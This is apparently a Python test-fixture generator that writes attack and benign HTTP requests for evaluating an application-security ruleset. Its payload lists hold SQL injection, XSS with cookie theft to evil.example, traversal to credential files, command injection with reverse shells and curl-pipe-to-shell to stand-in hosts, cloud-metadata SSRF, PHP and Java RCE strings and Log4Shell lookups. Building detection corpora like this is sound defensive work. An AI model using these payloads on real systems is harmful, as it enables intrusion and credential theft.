#!/usr/bin/env python3
"""Writes tests/appsec/corpus.jsonl: attack and benign HTTP requests for the AppSec ruleset evaluator.

Deterministic (fixed seed, no network). Every payload here was written for this project. Each line:
{"class": ..., "method": ..., "target": ..., "headers": {...}, "body": "...", "path_params": {...}?}
Run from the repository root: python3 tests/appsec/make_corpus.py > tests/appsec/corpus.jsonl
"""
import json
import random
import sys
from urllib.parse import quote, urlencode

rng = random.Random(20240601)

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
    "okhttp/4.12.0", "python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1", "axios/1.6.8",
    "ShopApp/5.12.1 (iOS 17.4; iPhone15,2; de_DE)", "PostmanRuntime/7.37.3",
]


def b64url(n):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))


def jwt():
    return "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9." + b64url(180) + "." + b64url(342)


def uuid():
    h = "".join(rng.choice("0123456789abcdef") for _ in range(32))
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def base_headers(extra=None):
    h = {
        "host": "api.example.com",
        "user-agent": rng.choice(BROWSER_UAS),
        "accept": rng.choice(["application/json", "*/*", "application/json, text/plain, */*",
                              "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"]),
        "accept-language": rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9", "fr-FR"]),
        "accept-encoding": "gzip, deflate, br",
        "x-request-id": uuid(),
    }
    if rng.random() < 0.6:
        h["authorization"] = "Bearer " + jwt()
    if rng.random() < 0.4:
        h["cookie"] = f"session={b64url(43)}; _ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**9, 2 * 10**9)}; theme=dark"
    if extra:
        h.update(extra)
    return h


def req(cls, method, target, headers=None, body="", path_params=None):
    r = {"class": cls, "method": method, "target": target, "headers": base_headers(headers), "body": body}
    if path_params:
        r["path_params"] = path_params
    return r


JSON_CT = {"content-type": "application/json"}
FORM_CT = {"content-type": "application/x-www-form-urlencoded"}


def placements(cls, payload, i):
    """The i-th placement of one payload: query, JSON body, form body, path segment, header, cookie."""
    k = i % 6
    if k == 0:
        return req(cls, "GET", "/api/v1/search?" + urlencode({"q": payload, "page": "1"}))
    if k == 1:
        return req(cls, "POST", "/api/v1/comments", JSON_CT,
                   json.dumps({"post_id": 812, "author": "guest", "text": payload}))
    if k == 2:
        return req(cls, "POST", "/login", FORM_CT, urlencode({"username": payload, "password": "hunter2"}))
    if k == 3:
        return req(cls, "GET", "/api/v1/files/" + quote(payload, safe=""), path_params={"name": payload})
    if k == 4:
        return req(cls, "GET", "/api/v1/profile", {"referer": "https://shop.example.com/?ref=" + payload})
    return req(cls, "GET", "/api/v1/cart", {"cookie": "session=abc123; pref=" + quote(payload, safe="()/:=,'\"*<>${}")})


ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "admin'--", "1 UNION SELECT username, password FROM users",
        "1' UNION ALL SELECT NULL,NULL,version()--", "1 AND SLEEP(5)", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
        "'; DROP TABLE users; --", "1' WAITFOR DELAY '0:0:5'--", "1' ORDER BY 3--", "-1 UNION/**/SELECT/**/1,2,3",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "' OR 1=1#", "1;SELECT pg_sleep(10)", "' or ''='",
        "1' and benchmark(5000000,md5(1))#", "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
        "1 /*!50000UNION*/ SELECT 1,2", "admin\" or \"1\"=\"1", "1' || '1'='1", "1 AND updatexml(1,concat(0x7e,user()),1)",
        "'; EXEC xp_cmdshell 'dir'--", "1' GROUP BY 1,2,3--+", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "x') OR ('a'='a", "1%27%20OR%20%271%27%3D%271",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
        "javascript:alert(document.cookie)", "\"><script>fetch('//evil.example/'+document.cookie)</script>",
        "<iframe src=\"javascript:alert(1)\">", "<body onload=alert('xss')>", "'\"><img src=x onerror=prompt(1)>",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>", "<details open ontoggle=confirm(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "\" onmouseover=\"alert(1)",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "jav&#x09;ascript:alert(1)",
        "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "'-alert(1)-'",
    ],
    "lfi": [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini", "/etc/passwd", "../../../../etc/shadow%00.png", "%2e%2e%2f%2e%2e%2fetc%2fhosts",
        "..%252f..%252f..%252fetc%252fpasswd", "/proc/self/environ", "C:\\Windows\\win.ini", "..%c0%af..%c0%afetc/passwd",
        "/var/www/html/../../../etc/passwd", "../../../../../boot.ini", "/home/deploy/.ssh/id_rsa", "../../WEB-INF/web.xml",
        "..;/..;/..;/etc/passwd", "%2e%2e/%2e%2e/etc/group", "../../../../etc/passwd\u0000.jpg", "file/../../../.aws/credentials",
    ],
    "cmdi": [
        ";cat /etc/passwd", "| nc attacker.example 4444 -e /bin/sh", "$(whoami)", "`id`", "127.0.0.1; ls -la",
        "127.0.0.1 && curl http://evil.example/x.sh | sh", "x || ping -c 10 127.0.0.1", "; wget http://evil.example/s -O /tmp/s",
        "&& bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "|/bin/bash -c 'id'", "test\nid\n", "; sleep 10 #",
        "a;c'a't /e't'c/pa's'swd", "; powershell -enc SQBFAFgA", "& cmd.exe /c whoami", "| type C:\\Windows\\win.ini",
        "$(curl -s http://evil.example/$(whoami))", "1;{echo,aGVsbG8=}|{base64,-d}|bash", "cat${IFS}/etc/passwd",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'", "x;uname -a;", "127.0.0.1|whoami",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
        "http://169.254.169.254.nip.io/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "http://localhost:8080/admin",
        "http://127.0.0.1:2375/containers/json", "file:///etc/passwd", "dict://127.0.0.1:11211/stats",
        "http://0x7f000001/", "http://[::1]:80/", "http://169.254.170.2/v2/credentials", "http://instance-data/latest/meta-data",
        "http://user@169.254.169.254/", "http://metadata.google.internal./computeMetadata/v1/",
    ],
    "php": [
        "<?php system($_GET['cmd']); ?>", "php://filter/convert.base64-encode/resource=index.php", "php://input",
        "<?= `id` ?>", "eval(base64_decode('ZWNobyAnaGknOw=='));", "system('id');", "phar://uploads/avatar.jpg/test.txt",
        "expect://id", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "assert($_POST['x'])",
        "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}", "passthru(\"cat /etc/passwd\");", "file_get_contents('/etc/passwd')",
        "phpinfo()", "shell_exec($_REQUEST['c'])", "<?php echo file_get_contents('/etc/passwd'); ?>",
        "zip://shell.jpg#payload.php", "compress.zlib://file.gz", "${@eval($_POST[1])}",
    ],
    "java": [
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
        "java.lang.Runtime.getRuntime().exec(\"calc\")", "new java.lang.ProcessBuilder({'id'}).start()",
        "#{T(java.lang.System).getenv()}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
        "${''.getClass().forName('java.lang.Runtime')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=$class.inspect(\"java.lang.Runtime\"))", "Class.forName(\"javax.script.ScriptEngineManager\")",
        "org.apache.commons.collections.functors.InvokerTransformer", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"/></object></java>",
        "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "javax.naming.InitialContext", "${new java.lang.ProcessBuilder('id').start()}",
    ],
    "jndi": [
        "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/obj}", "${jndi:dns://evil.example}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/}", "${${upper:j}ndi:ldap://evil.example/}",
        "${j${::-n}di:ldap://evil.example/}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "${jndi:ldaps://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example}",
        "${jndi:iiop://evil.example/x}", "${${sys:os.name:-j}ndi:ldap://evil.example/}", "${jNdI:LdAp://evil.example/}",
        "${${lower:jndi}:${lower:rmi}://evil.example/}",
    ],
}

NOSQL = [
    req("nosql", "GET", "/api/v1/users?username[$ne]=x&password[$ne]=x"),
    req("nosql", "GET", "/api/v1/users?age[$gt]="),
    req("nosql", "POST", "/login", FORM_CT, "username=admin&password%5B%24regex%5D=%5Ea"),
    req("nosql", "POST", "/login", JSON_CT, '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    req("nosql", "POST", "/api/v1/search", JSON_CT, '{"$where": "sleep(5000)"}'),
    req("nosql", "POST", "/login", JSON_CT, '{"username": "admin", "password": {"$regex": ".*"}}'),
    req("nosql", "POST", "/api/v1/query", JSON_CT, '{"filter": {"$or": [{"role": "admin"}, {"role": {"$exists": true}}]}}'),
    req("nosql", "POST", "/api/v1/products/find", JSON_CT, '{"filter": {"price": {"$gt": 0}}, "$where": "this.price < 0"}'),
    req("nosql", "GET", "/api/v1/items?" + urlencode({"filter": '{"owner": {"$ne": null}}'})),
    req("nosql", "GET", "/api/v1/items?" + urlencode({"name": "x'; return true; var y='"})),
    req("nosql", "GET", "/api/v1/items?" + urlencode({"q": "admin' && this.password.match(/.*/)//"})),
    req("nosql", "POST", "/login", FORM_CT, "user%5B%24nin%5D%5B%5D=admin&pass=x"),
    req("nosql", "POST", "/api/v1/reports", JSON_CT, '{"match": {"$expr": {"$gt": ["$spent", "$budget"]}}}'),
    req("nosql", "POST", "/login", JSON_CT, '{"login": {"$exists": true}, "pin": {"$gte": ""}}'),
    req("nosql", "GET", "/api/v1/orders?" + urlencode({"status": "x' || '1'=='1"}) + "&user[$ne]=1"),
    req("nosql", "GET", "/api/v1/cart", {"cookie": "session=abc; user[$ne]=guest"}),
    req("nosql", "POST", "/api/v1/graph", JSON_CT, '{"pipeline": [{"$lookup": {"from": "users", "as": "u"}}]}'),
    req("nosql", "GET", "/api/v1/items?" + urlencode({"q": "db.users.find()"})),
]

SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/5.0 zgrab/0.x", "w3af.org", "Wfuzz/3.1.0", "feroxbuster/2.10.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Safari/537.36 acunetix_wvs_security_test",
    "Mozilla/5.0 (compatible; Netsparker)", "commix/v3.8-stable (https://commixproject.com)", "Arachni/v1.5.1",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "Havij", "Mozilla/5.0 (Hydra)", "Mozilla/5.0 (compatible; Nessus)",
]
SCANNER = [req("scanner", "GET", rng.choice(["/", "/api/v1/products", "/admin", "/wp-login.php", "/.env"]),
               {"user-agent": ua}) for ua in SCANNER_UAS] + [
    req("scanner", "GET", "/api/v1/fetch?" + urlencode({"url": "http://x7k2p9.oastify.com/"})),
    req("scanner", "GET", "/api/v1/profile", {"referer": "http://abc123.burpcollaborator.net/"}),
    req("scanner", "POST", "/api/v1/webhooks", JSON_CT, '{"callback": "https://c9q3kz1.oast.fun/hook"}'),
    req("scanner", "GET", "/", {"acunetix-product": "WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)"}),
    req("scanner", "GET", "/api/v1/search?q=test", {"x-forwarded-for": "d2hhdGV2.interact.sh"}),
]


def attacks():
    out = []
    for cls, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            out.append(placements(cls, p, i))
    # extra placements where an attack is known to travel
    out.append(req("jndi", "GET", "/", {"user-agent": "${jndi:ldap://evil.example/ua}"}))
    out.append(req("jndi", "GET", "/api/v1/items", {"x-api-version": "${${lower:j}ndi:ldap://evil.example/v}"}))
    out.append(req("jndi", "GET", "/api/v1/items/%24%7Bjndi:ldap://evil.example/p%7D"))
    out.append(req("lfi", "GET", "/static/..%2f..%2f..%2fetc%2fpasswd"))
    out.append(req("lfi", "GET", "/api/v1/download?file=..%252f..%252f..%252fetc%252fpasswd"))
    out.append(req("lfi", "GET", "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd"))
    out.append(req("ssrf", "GET", "/api/v1/preview", {"x-forwarded-host": "169.254.169.254"}))
    out.append(req("ssrf", "POST", "/api/v1/webhooks", JSON_CT,
                   json.dumps({"name": "deploy", "url": "http://169.254.169.254/latest/api/token", "events": ["push"]})))
    out.append(req("java", "POST", "/upload", {"content-type": "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1)}"}))
    out.append(req("java", "POST", "/register", FORM_CT,
                   "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di&name=x"))
    out.append(req("cmdi", "GET", "/cgi-bin/status", {"user-agent": "() { :; }; echo; /bin/bash -c 'id'"}))
    out.append(req("xss", "GET", "/api/v1/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"))
    out.append(req("php", "GET", "/index.php?page=php://filter/read=convert.base64-encode/resource=config"))
    out.append(req("sqli", "GET", "/api/v1/products?id=1%20UNION%20SELECT%20credit_card%20FROM%20payments"))
    return out + NOSQL + SCANNER


# ---- benign traffic -----------------------------------------------------------------------------------------
SEARCHES = [
    "select your plan", "drop-down menu component", "union station chicago", "red or blue shirt", "rock and roll vinyl",
    "O'Brien", "d'Artagnan costume", "it's a trap poster", "cats & dogs", "C++ programming book", "50% off shoes",
    "1/2 inch copper pipe", "java.lang.String vs StringBuilder", "how to sleep better", "Mr. & Mrs. Smith",
    "where is my order", "delete my account", "insert coin arcade", "update billing address", "union jack flag",
    "sleep mask silk", "benchmark results 2024", "Tom & Jerry dvd", "rock 'n' roll", "5' 10\" height chart",
    "cat food; dog treats", "ping pong table", "echo dot speaker", "curl cream for hair", "who am i movie",
    "JavaScript: the good parts", "alert: low battery", "I <3 this product", "x => x * 2", "a<b and c>d",
    "Größe 42 schwarz", "東京 カフェ おすすめ", "L'été dernier", "café crème", "1 + 1 = 2", "where 1 = 1 scale model",
    "system (Linux) requirements", "eval results 2023", "include (optional) extras", "Q&A session", "AT&T prepaid",
    "order by price", "\"exact phrase\" search", "email@example.com", "+49 30 1234567", "2024-05-01", "#hashtag",
    "null", "true", "-1", "shell station near me", "nc state wolfpack", "python tutorial for beginners",
]
NAMES = ["Seán O'Brien", "D'Angelo Russell", "Zoë Ångström", "Jürgen Müller", "山田 太郎", "María José García-López",
         "Ngô Bảo Châu", "O'Reilly Media", "Anne-Marie O'Connor", "Jean-Luc Picard", "Søren Kierkegaard", "Li Wei"]
TEXTS = [
    "I can't log in, it's saying 'invalid token' — what's wrong?",
    "Don't you think 'or' is better than 'and' here?",
    "Please select your plan and confirm before Friday; we'll send the invoice.",
    "Meet at Union Station at 5pm, then we drop by the office.",
    "Update: order by 5pm for same-day delivery. Prices: $1,299.00 / €19,99 / ¥2,500.",
    "The script will run tonight and the report lands in your inbox.",
    "Größe: 42, Farbe: Schwarz — Lieferung bis Donnerstag. Vielen Dank für Ihre Bestellung!",
    "東京都渋谷区の新しいカフェ「ミルク」について教えてください。営業時間は？",
    "L'été dernier, j'ai acheté ça à l'aéroport d'Orly.",
    "15\" laptop sleeve, fits MacBook Pro 14' and 15\"; water-resistant (IPX4).",
    "Loved it!!! 5/5 would buy again :) <3",
    "Call me at +1 (555) 010-9999 or write to sean.obrien@example.ie.",
    "Re: \"Quarterly numbers\" — see the attached report.final.v2.pdf (page 3).",
    "Use the drop-down to choose a size, then click 'Add to cart'.",
    "Hello %{name}, your order %{order_id} has shipped.",
    "Dear ${customer}, thanks for your purchase.",
    "x > 3 and y < 5 means the point is inside the box.",
    "Cats & dogs welcome; cat owners please bring a carrier.",
    "Tip: press Ctrl+C to copy and Ctrl+V to paste.",
    "We're 100% sure the package left the warehouse on 2024-05-01T12:30:00Z.",
]
MARKDOWN = [
    "## Release notes\n\n- Fixed a crash when the *drop-down* was empty\n- `select` component now supports `multiple`\n\n"
    "| Plan | Price |\n|------|-------|\n| Basic | $9 |\n| Pro | $29 |\n\nSee [docs](https://docs.example.com/select-your-plan).",
    "| Field | Type | Description |\n|---|---|---|\n| id | string | unique id |\n| type | enum | one of `a`, `b` |\n| env | string | deployment |",
    "# Meeting notes\n\n1. Budget approved (finally!)\n2. **Action:** Jürgen to update the roadmap\n3. > \"Ship it\" — Anne-Marie\n",
    "Steps to reproduce:\n1. Open the app\n2. Tap *Settings* → *Account*\n3. Choose 'Delete my data'\n\nExpected: a confirmation dialog.",
]
FILENAMES = ["report.final.v2.pdf", "IMG_2024-05-01.jpeg", "archive.tar.gz", "config.prod.yaml", "résumé (1).docx",
             "Q3 numbers - draft.xlsx", "photo.2024.05.heic", "notes.md", "data_export_2024-04-30.csv", "logo@2x.png"]
URLS = ["https://shop.example.com/checkout?step=2&ref=mail", "https://hooks.example.org/deploy",
        "https://www.google.com/search?q=o%27brien+shoes", "https://cdn.example.net/img/products/1234/main.webp",
        "http://example.com/a/b/c?x=1&y=2#frag", "https://docs.example.com/api/v2/users/{id}"]


def b64(n):
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(n)) + "=="


def benign():
    out = []
    for s in SEARCHES:
        out.append(req("benign", "GET", "/api/v1/products?" + urlencode(
            {"q": s, "page": rng.randint(1, 9), "sort": rng.choice(["price_asc", "-created_at", "relevance"])})))
    for n in NAMES:
        body = {"name": n, "email": "user%d@example.com" % rng.randint(1, 999), "phone": "+44 20 7946 0%03d" % rng.randint(0, 999),
                "address": {"street": "12 O'Connell St.", "city": rng.choice(["Dublin", "München", "大阪", "Zürich"]),
                            "zip": "D01 F5P2"}, "birthday": "1990-04-%02d" % rng.randint(1, 28), "newsletter": True,
                "bio": rng.choice(TEXTS)}
        out.append(req("benign", "POST", "/api/v1/users", JSON_CT, json.dumps(body, ensure_ascii=False)))
        out.append(req("benign", "PUT", "/api/v1/users/" + uuid(), JSON_CT, json.dumps({"display_name": n}, ensure_ascii=False),
                       path_params={"id": uuid()}))
    for t in TEXTS + MARKDOWN:
        out.append(req("benign", "POST", "/api/v1/comments", JSON_CT,
                       json.dumps({"post_id": rng.randint(1, 10**6), "text": t, "tags": ["faq", "support"]}, ensure_ascii=False)))
        out.append(req("benign", "POST", "/contact", FORM_CT,
                       urlencode({"name": rng.choice(NAMES), "message": t, "consent": "on"})))
    for f in FILENAMES:
        out.append(req("benign", "GET", "/api/v1/files/" + quote(f), path_params={"name": f}))
        out.append(req("benign", "POST", "/api/v1/uploads", JSON_CT,
                       json.dumps({"filename": f, "size": rng.randint(1000, 10**7), "content": b64(400)}, ensure_ascii=False)))
    for u in URLS:
        out.append(req("benign", "GET", "/api/v1/redirect?" + urlencode({"to": u})))
        out.append(req("benign", "POST", "/api/v1/webhooks", JSON_CT,
                       json.dumps({"url": u, "events": ["order.created", "order.paid"], "secret": b64(30)})))
        out.append(req("benign", "GET", "/api/v1/profile", {"referer": u}))
    for i in range(30):
        items = [{"sku": "SKU-%05d" % rng.randint(0, 99999), "qty": rng.randint(1, 5), "price": "%d.%02d" % (rng.randint(1, 500), rng.randint(0, 99)),
                  "name": rng.choice(["Men's T-Shirt \"Classic\"", "Kinder-Regenjacke", "ノートパソコンスタンド", "4K HDMI cable (2 m)",
                                      "Chef's knife 8\"", "Drop-in sink", "Union Suit (red)", "Select-a-Size paper towels"])}
                 for _ in range(rng.randint(1, 4))]
        body = {"order_id": uuid(), "created_at": "2024-05-%02dT%02d:%02d:00Z" % (rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59)),
                "items": items, "coupon": rng.choice([None, "SPRING-25", "WELCOME10"]), "notes": rng.choice(TEXTS),
                "payment": {"method": "card", "token": "tok_" + b64url(24), "last4": "%04d" % rng.randint(0, 9999)}}
        out.append(req("benign", "POST", "/api/v1/orders", JSON_CT, json.dumps(body, ensure_ascii=False)))
    for i in range(25):
        q = {"fields": "id,name,email", "filter[status]": rng.choice(["active", "pending"]), "limit": rng.choice([10, 25, 100]),
             "cursor": b64url(40), "since": "2024-04-%02d" % rng.randint(1, 30), "lang": rng.choice(["de", "ja", "en-GB"])}
        out.append(req("benign", "GET", "/api/v1/customers?" + urlencode(q),
                       {"cookie": "session=%s; consent=%s; cart=%s" % (b64url(43), quote('{"ads":false,"analytics":true}'), uuid())}))
    schema = {"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/order.schema.json",
              "type": "object", "properties": {"total": {"type": "number", "minimum": 0}, "ref": {"$ref": "#/$defs/ref"}}}
    out.append(req("benign", "POST", "/api/v1/schemas", JSON_CT, json.dumps(schema)))
    out.append(req("benign", "POST", "/api/v1/import", JSON_CT,
                   json.dumps({"_id": {"$oid": "65f1c2a9e4b0a1b2c3d4e5f6"}, "created": {"$date": "2024-03-13T10:00:00Z"}})))
    out.append(req("benign", "POST", "/oauth/token", FORM_CT,
                   urlencode({"grant_type": "refresh_token", "refresh_token": jwt(), "client_id": "web-app"})))
    out.append(req("benign", "POST", "/graphql", JSON_CT, json.dumps(
        {"query": "query Products($first: Int!) { products(first: $first) { edges { node { id title } } } }",
         "variables": {"first": 20}})))
    out.append(req("benign", "GET", "/api/v1/health"))
    out.append(req("benign", "DELETE", "/api/v1/sessions/" + uuid()))
    return out


def main():
    rows = attacks() + benign()
    for r in rows:
        sys.stdout.write(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n")
    counts = {}
    for r in rows:
        counts[r["class"]] = counts.get(r["class"], 0) + 1
    sys.stderr.write(" ".join(f"{k}={v}" for k, v in sorted(counts.items())) + "\n")


if __name__ == "__main__":
    main()
